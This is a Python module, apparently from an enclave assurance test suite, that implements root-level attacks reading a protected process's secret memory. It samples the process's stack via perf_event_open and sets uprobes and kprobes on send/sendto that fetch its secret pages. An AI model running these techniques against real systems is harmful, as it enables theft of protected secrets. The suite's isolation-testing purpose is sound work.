"""perf: samples of the enclave's stack, and probes that read its user memory whenever it calls a function."""

from __future__ import annotations

import contextlib
import ctypes
import mmap
import os
import struct
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Self

from assurance.root.attacker.attacks import Attack, ImpossibleError, Outcome
from assurance.root.attacker.elf import functions
from assurance.root.attacker.linux import SYS_PERF_EVENT_OPEN, mappings, mount, syscall, unmount
from assurance.root.attacker.reads import judged
from assurance.root.attacker.victim import Victim
from assurance.root.attacker.writes import secret_area

_SOFTWARE, _TRACEPOINT, _TASK_CLOCK = 1, 2, 1
_RAW, _REGISTERS, _STACK = 1 << 10, 1 << 12, 1 << 13
_FREQUENCY, _NO_KERNEL = 1 << 10, 1 << 5
_STACK_BYTES = 32 << 10
_CLOSE_ON_EXEC = 8
_PAGES = 512
_HEAD = 1024
"""Where the first page of a ring has the count of bytes written."""
_SAMPLE = 9
_ARGUMENTS = 100
"""Words that a probe fetches; an event has up to 128 arguments."""
_SECONDS = 2.0
_ENOUGH = 40
_PROBES = 192


class Ring:
    """Samples of one process."""

    def __init__(self, pid: int, attributes: bytes) -> None:
        wanted = ctypes.create_string_buffer(attributes, len(attributes))
        self._file = syscall(SYS_PERF_EVENT_OPEN, wanted, pid, -1, -1, _CLOSE_ON_EXEC)
        self._ring = mmap.mmap(self._file, (1 + _PAGES) * mmap.PAGESIZE)
        self._read = 0

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self._ring.close()
        os.close(self._file)

    def samples(self) -> Iterator[bytes]:
        """Those since the last time, without their headers."""
        (head,) = struct.unpack_from("<Q", self._ring, _HEAD)
        start, size = mmap.PAGESIZE, _PAGES * mmap.PAGESIZE
        whole = self._ring[start : start + size] * 2
        at = self._read
        while at < head:
            place = at % size
            kind, _, length = struct.unpack_from("<IHH", whole, place)
            if not length:
                break
            if kind == _SAMPLE:
                yield whole[place + 8 : place + length]
            at += length
        self._read = head
        struct.pack_into("<Q", self._ring, _HEAD + 8, head)  # what was read may be overwritten


def _attributes(kind: int, config: int, sample: int, *, period: int, flags: int = 0) -> bytes:
    registers = 1 << 8 if sample & _REGISTERS else 0  # the instruction pointer
    stack = _STACK_BYTES if sample & _STACK else 0
    head = struct.pack("<IIQQQQQ", kind, 112, config, period, sample, 0, flags)
    return (head + struct.pack("<IIQQQQI", 1, 0, 0, 0, 0, registers, stack)).ljust(112, b"\0")


def perf_stack(victim: Victim) -> Outcome:
    """`perf_event_open` with samples of the enclave's registers and stack, where panels of weights lie in a run."""
    pid = victim.enclave()
    attributes = _attributes(_SOFTWARE, _TASK_CLOCK, _REGISTERS | _STACK, period=4000, flags=_FREQUENCY | _NO_KERNEL)
    taken: list[bytes] = []
    with Ring(pid, attributes) as ring, victim.busy():
        until = victim.until(_SECONDS)
        while time.monotonic() < until and len(taken) < _ENOUGH:
            taken += ring.samples()
            time.sleep(0.02)
    # Behind the stack stands how much of it was there.
    sizes = [struct.unpack_from("<Q", sample, len(sample) - 8)[0] for sample in taken]
    out = judged(victim, taken, f"{len(taken)} samples of the stack")
    return Outcome(sum(sizes) > 0, out.detail, out.windows)


@contextmanager
def tracing() -> Iterator[Path]:
    """tracefs, mounted for oneself where it is not.

    Raises:
        OSError: The kernel refuses.
        ImpossibleError: It has none.
    """
    if "tracefs" not in Path("/proc/filesystems").read_text():
        raise ImpossibleError("this kernel has no tracefs")
    folder = Path(tempfile.mkdtemp(prefix="root-tracing-"))
    try:
        mount("tracefs", folder, "tracefs")
        try:
            yield folder
        finally:
            unmount(folder)
    finally:
        folder.rmdir()


def _say(path: Path, line: str) -> None:
    """Adds a line; these files cannot be sought in, as Python's own appending does."""
    file = os.open(path, os.O_WRONLY | os.O_APPEND)
    try:
        os.write(file, line.encode())
    finally:
        os.close(file)


def _probed(victim: Victim, events: str, place: str, user: str) -> Outcome:
    """Sets probes at a place that the enclave comes by, each of which fetches some of its secret pages.

    Args:
        victim: The device.
        events: File of tracefs.
        place: Where, as this file wants it.
        user: The marker of an address of the process itself.
    """
    pid = victim.enclave()
    secret = secret_area(pid)
    name = f"root_{os.getpid()}"

    def fetched(folder: Path, at: int) -> bytes:
        arguments = " ".join(f"a{i}=+{user}0(\\{at + 8 * i:#x}):x64" for i in range(_ARGUMENTS))
        try:
            _say(folder / events, f"p:{name}/take {place} {arguments}\n")
        except OSError as error:
            said = [line for line in (folder / "error_log").read_text().splitlines() if "error:" in line]
            raise OSError(error.errno, os.strerror(error.errno or 0), " ".join(said[-1:])) from None
        try:
            number = int((folder / "events" / name / "take" / "id").read_text())
            attributes = _attributes(_TRACEPOINT, number, _RAW, period=1)
            with Ring(pid, attributes) as ring:
                until = victim.until(_SECONDS)
                while time.monotonic() < until:
                    samples = list(ring.samples())
                    if samples:
                        return samples[0]
                    time.sleep(0.001)
            return b""
        finally:
            _say(folder / events, f"-:{name}/take\n")

    with tracing() as folder:
        if not (folder / events).exists():
            raise ImpossibleError(f"this kernel has no {events}")
        with victim.busy(victim.known):
            parts = (fetched(folder, secret.start + i * 8 * _ARGUMENTS) for i in range(_PROBES))
            out = judged(victim, parts, f"fetched by {events}", enough=2)
    return Outcome(out.windows > 0, out.detail, out.windows)


def uprobe(victim: Victim) -> Outcome:
    """A uprobe on the C library's `send`, for the enclave alone, that fetches its secret pages."""
    if not Path("/proc/sys/kernel/perf_event_paranoid").exists():
        raise ImpossibleError("this kernel has no perf")
    areas = [area for area in mappings(victim.enclave()) if area.path.endswith("/libc.so.6")]
    with contextlib.suppress(StopIteration):
        value = functions(Path(areas[0].path))["send"].value + areas[0].start
        code = next(area for area in areas if area.start <= value < area.end)
        return _probed(victim, "uprobe_events", f"{code.path}:{value - code.start + code.offset:#x}", "")
    raise ImpossibleError("the enclave has no libc.so.6")


def kprobe(victim: Victim) -> Outcome:
    """A kprobe on the system call by which the enclave answers, that fetches its secret pages."""
    return _probed(victim, "kprobe_events", "__x64_sys_sendto", "u")


ATTACKS = (
    Attack("perf_stack", "kernel", perf_stack, everywhere=True),
    Attack("uprobe", "kernel", uprobe, seconds=20, everywhere=True),
    Attack("kprobe", "kernel", kprobe, seconds=20),
)
